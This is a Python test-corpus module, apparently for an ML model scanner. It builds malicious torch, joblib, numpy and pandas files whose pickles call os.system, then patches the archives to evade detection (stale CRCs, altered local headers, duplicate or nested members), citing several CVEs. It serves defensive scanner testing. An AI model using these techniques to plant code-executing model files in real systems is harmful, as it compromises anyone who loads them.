"""Malicious model files whose trick is the container (scanner-threats.md §B.22-23, §C.26-33).

The payload is a plain os.system call, written by the library's own serializer
(torch.save, joblib.dump, numpy, pandas) or assembled; the archive around it is
then built or patched byte by byte: CRC left stale, local header renamed or
flagged, members duplicated, archives nested.
"""

from __future__ import annotations

import io
import os
import pickle
import struct
import tarfile
import warnings
import zipfile
from pathlib import Path
from typing import Any

from tests.scanning_corpus._pickle_asm import Call, Global, Seq, assemble
from tests.scanning_corpus._sample import Payload, Recipe, Reduce, Sample, write_recipes

__all__ = ["write_container_samples"]

#: torch.save into a file object names the archive's top folder "archive".
DATA_PKL = "archive/data.pkl"


def _evil(p: Payload) -> Reduce:
    return Reduce(os.system, p.shell)


def _torch_bytes(obj: Any, *, legacy: bool = False) -> bytes:
    import torch

    buffer = io.BytesIO()
    torch.save(obj, buffer, _use_new_zipfile_serialization=not legacy)
    return buffer.getvalue()


def _evil_checkpoint(p: Payload) -> dict[str, Any]:
    import torch

    return {"weight": torch.arange(4.0), "config": _evil(p)}


def _torch_zip(p: Payload) -> bytes:
    return _torch_bytes(_evil_checkpoint(p))


def _rezip(members: list[tuple[str, bytes]]) -> bytes:
    """A stored (uncompressed) zip of ``members`` in order, duplicates allowed."""
    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.filterwarnings("ignore", "Duplicate name", UserWarning)
        with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
            for name, data in members:
                archive.writestr(name, data)
    return out.getvalue()


def _members(zipped: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(zipped)) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


def _local_header_offset(zipped: bytes, member: str) -> int:
    with zipfile.ZipFile(io.BytesIO(zipped)) as archive:
        return archive.getinfo(member).header_offset


def _odd_folder(p: Payload) -> bytes:
    members = _members(_torch_zip(p))
    return _rezip([(n.replace("archive/", "model.safetensors/", 1), d) for n, d in members])


def _legacy_magic_reduce(p: Payload) -> bytes:
    import torch

    # The first pickle of a legacy file is only the magic number; rebuild it so that
    # it calls os.system, then still yields the magic number, and torch loads on.
    benign = _torch_bytes({"weight": torch.arange(4.0)}, legacy=True)
    stream = io.BytesIO(benign)
    magic = pickle.load(stream)  # noqa: S301 - our own torch.save output
    return (
        assemble(Seq(Call(Global("posix", "system"), p.shell), magic), proto=2)
        + benign[stream.tell() :]
    )


def _legacy_tar(p: Payload) -> bytes:
    # torch's pre-1.0 tar container: "storages" is the first member it unpickles.
    def dump(obj: object) -> bytes:
        return pickle.dumps(obj, protocol=2)

    storages = assemble(Seq(Call(Global("posix", "system"), p.shell), 0), proto=2) + dump([])
    members = {
        "sys_info": dump({"protocol_version": 1001, "little_endian": True}),
        "pickle": dump({"epoch": 1}),
        "storages": storages,
        "tensors": dump(0),
    }
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _crc_mismatch(p: Payload) -> bytes:
    # Save with the marker's last character changed, then change it back inside the
    # stored data.pkl without updating the CRC: the payload is intact, the CRC stale.
    marker = str(p.marker).encode()
    altered = marker[:-1] + (b"X" if marker[-1:] != b"X" else b"Y")
    zipped = _torch_zip(Payload(Path(altered.decode())))
    if zipped.count(altered) != 1:
        raise RuntimeError("the marker path must occur once in the archive")
    return zipped.replace(altered, marker)


def _local_header_name(p: Payload) -> bytes:
    # Rename data.pkl in its local file header only, to a name of the same length.
    zipped = bytearray(_torch_zip(p))
    name_at = _local_header_offset(bytes(zipped), DATA_PKL) + 30
    if zipped[name_at : name_at + len(DATA_PKL)] != DATA_PKL.encode():
        raise RuntimeError("unexpected local header layout")
    zipped[name_at : name_at + len(DATA_PKL)] = b"archive/data.txt"
    return bytes(zipped)


def _local_header_flags(p: Payload) -> bytes:
    # Set general-purpose bits 5 (patched data) and 6 (strong encryption) in the local
    # header of data.pkl only; the central directory keeps the real flags.
    zipped = bytearray(_torch_zip(p))
    flags_at = _local_header_offset(bytes(zipped), DATA_PKL) + 6
    (flags,) = struct.unpack_from("<H", zipped, flags_at)
    struct.pack_into("<H", zipped, flags_at, flags | 0x60)
    return bytes(zipped)


def _zip_in_zip(p: Payload) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("model/pytorch_model.bin", _torch_zip(p))
    return out.getvalue()


def _pickle_in_tar_gz(p: Payload) -> bytes:
    data = pickle.dumps(_evil(p), protocol=4)
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tar:
        info = tarfile.TarInfo("model/model.pkl")
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _duplicate(p: Payload, *, malicious_first: bool) -> bytes:
    import torch

    benign = _members(_torch_bytes({"weight": torch.arange(4.0)}))
    evil = dict(_members(_torch_zip(p)))[DATA_PKL]
    if malicious_first:
        return _rezip([(DATA_PKL, evil), *benign])
    return _rezip([*benign, (DATA_PKL, evil)])


def _joblib(p: Payload, compress: Any) -> bytes:
    import joblib
    import numpy as np

    buffer = io.BytesIO()
    joblib.dump([np.zeros(1000), _evil(p)], buffer, compress=compress)
    return buffer.getvalue()


def _object_array(p: Payload) -> Any:
    import numpy as np

    array = np.empty(2, dtype=object)
    array[0] = "label"
    array[1] = _evil(p)
    return array


def _npy(p: Payload) -> bytes:
    import numpy as np

    buffer = io.BytesIO()
    np.save(buffer, _object_array(p), allow_pickle=True)
    return buffer.getvalue()


def _npz(p: Payload) -> bytes:
    import numpy as np

    buffer = io.BytesIO()
    np.savez(buffer, weight=np.zeros(4), labels=_object_array(p))
    return buffer.getvalue()


def _pandas(p: Payload) -> bytes:
    import pandas as pd

    buffer = io.BytesIO()
    frame = pd.DataFrame({"feature": [0.5, 1.5], "meta": ["a", _evil(p)]})
    frame.to_pickle(buffer, compression="gzip")
    return buffer.getvalue()


CONTAINERS = (
    Recipe(
        "torch_zip_data_pkl_reduce.pt",
        "torch zip archive whose data.pkl calls os.system",
        _torch_zip,
        "torch",
    ),
    Recipe(
        "torch_zip_odd_folder_name.pt",
        "torch zip whose top folder is 'model.safetensors/' instead of 'archive/'",
        _odd_folder,
        "torch",
    ),
    Recipe(
        "torch_legacy_object_pickle_payload.pt",
        "C.26 legacy torch format, payload in the object pickle (4th of the stream)",
        lambda p: _torch_bytes(_evil_checkpoint(p), legacy=True),
        "torch",
    ),
    Recipe(
        "ghsa_97f8_legacy_magic_number_reduce.pt",
        "C.26 legacy torch format whose magic-number pickle is a REDUCE (picklescan GHSA-97f8)",
        _legacy_magic_reduce,
        "torch",
    ),
    Recipe(
        "torch_legacy_tar_storages_payload.pt",
        "C.27 legacy torch tar container; the 'storages' member calls os.system",
        _legacy_tar,
        "torch",
    ),
    Recipe(
        "cve_2025_10156_zip_crc_mismatch.pt",
        "C.28 data.pkl changed without updating its CRC (CVE-2025-10156)",
        _crc_mismatch,
        "torch",
    ),
    Recipe(
        "cve_2025_1944_local_header_name_mismatch.pt",
        "C.29 data.pkl named archive/data.txt in its local header only (CVE-2025-1944)",
        _local_header_name,
        "torch",
    ),
    Recipe(
        "cve_2025_1945_local_header_flag_bits.pt",
        "C.30 flag bits 5 and 6 set in data.pkl's local header only (CVE-2025-1945)",
        _local_header_flags,
        "torch",
    ),
    Recipe(
        "zip_in_zip_torch.zip",
        "C.31 a zip holding a malicious torch zip",
        _zip_in_zip,
        "zip/torch",
    ),
    Recipe(
        "pickle_in_tar_gz.tar.gz",
        "C.31 a tar.gz holding a malicious pickle",
        _pickle_in_tar_gz,
        "tar/pickle",
    ),
    Recipe(
        "zip_duplicate_data_pkl_malicious_first.pt",
        "C.32 two archive/data.pkl entries, the malicious one first; torch 2.13 reads the"
        " last one and does not run it, other zip readers may",
        lambda p: _duplicate(p, malicious_first=True),
        "torch",
        loader_runs_payload=False,
    ),
    Recipe(
        "zip_duplicate_data_pkl_malicious_last.pt",
        "C.32 two archive/data.pkl entries, the malicious one last (torch reads it)",
        lambda p: _duplicate(p, malicious_first=False),
        "torch",
    ),
    Recipe(
        "joblib_payload_after_array.joblib",
        "B.22 joblib.dump([ndarray, evil]): the payload follows a raw array buffer",
        lambda p: _joblib(p, 0),
        "joblib",
    ),
    *(
        Recipe(
            f"joblib_{method}_payload{suffix}",
            f"B.23 joblib {method}-compressed, payload after an array",
            lambda p, method=method: _joblib(p, (method, 3)),
            "joblib",
        )
        for method, suffix in (
            ("zlib", ".joblib"),
            ("gzip", ".joblib.gz"),
            ("bz2", ".joblib.bz2"),
            ("xz", ".joblib.xz"),
        )
    ),
    Recipe(
        "numpy_object_array_payload.npy",
        "C.33 .npy object array holding a reducing object",
        _npy,
        "numpy",
    ),
    Recipe(
        "numpy_object_array_payload.npz",
        "C.33 .npz with an object array holding a reducing object",
        _npz,
        "numpy",
    ),
    Recipe(
        "pandas_object_column_payload.pkl.gz",
        "B.23 gzip-compressed pandas pickle, an object column holding a reducing object",
        _pandas,
        "pandas",
    ),
)


def write_container_samples(outdir: Path, markers: Path) -> list[Sample]:
    return write_recipes(CONTAINERS, outdir, markers)
